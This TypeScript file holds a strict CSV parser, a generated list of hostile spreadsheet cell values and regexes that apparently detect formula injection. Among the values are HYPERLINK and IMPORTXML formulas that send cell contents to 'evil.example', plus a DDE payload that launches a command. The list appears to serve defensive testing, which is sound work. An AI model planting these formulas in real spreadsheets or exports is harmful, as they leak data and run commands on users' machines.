/** The cells of a CSV file (RFC 4180), read apart from how they were written. Throws for what is no such file. */
export function readCsv(text: string): string[][] {
  const lines: string[][] = [];
  let cells: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = "";
    if (text[at] === '"') {
      for (at += 1; ; at += 1) {
        if (at >= text.length) throw new Error("a quoted cell is not closed");
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') {
          cell += '"';
          at += 1;
        } else break;
      }
      at += 1;
    } else {
      while (at < text.length && text[at] !== "," && text[at] !== "\r") {
        if (text[at] === '"' || text[at] === "\n")
          throw new Error(`a bare ${JSON.stringify(text[at])} in a cell`);
        cell += text[at];
        at += 1;
      }
    }
    cells.push(cell);
    if (text[at] === ",") {
      at += 1;
      if (at === text.length) cells.push("");
      continue;
    }
    if (text.slice(at, at + 2) !== "\r\n") throw new Error("a line does not end in CR LF");
    at += 2;
    lines.push(cells);
    cells = [];
  }
  if (cells.length > 0) throw new Error("the last line has no end");
  return lines;
}

const FORMULAS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `=cmd|' /C calc'!A0`,
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "﹦1",
  "−1",
  "\\u0000=1",
  "%0A=1",
  "|calc",
];
const BEFORE = [
  "",
  " ",
  '"',
  "'",
  "''",
  '""',
  "\u00a0",
  "\u3000",
  "\u200b",
  "\ufeff",
  "\u202e",
  ' "',
  "\u2028",
  "\u201c",
];
const AFTER = ["", '"', "\r\n=2", ',"=3', "\u0000", "\ud800"];

/** 500 texts and more that would do something in a spreadsheet, or break out of their cell. */
export const HOSTILE: readonly string[] = BEFORE.flatMap((before) =>
  FORMULAS.flatMap((formula) => AFTER.map((after) => before + formula + after)),
);

/** A first character that makes a spreadsheet compute, also behind quotes and spaces. */
export const DANGEROUS = /^[\s"\u2018-\u201f]*[=+\-@\t\r\n\0＝＋－＠﹢﹣﹦﹫−|%]/u;

/** Characters that no cell may hold as they are. */
export const HIDDEN = /[\p{Cc}\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]|\p{Surrogate}/u;
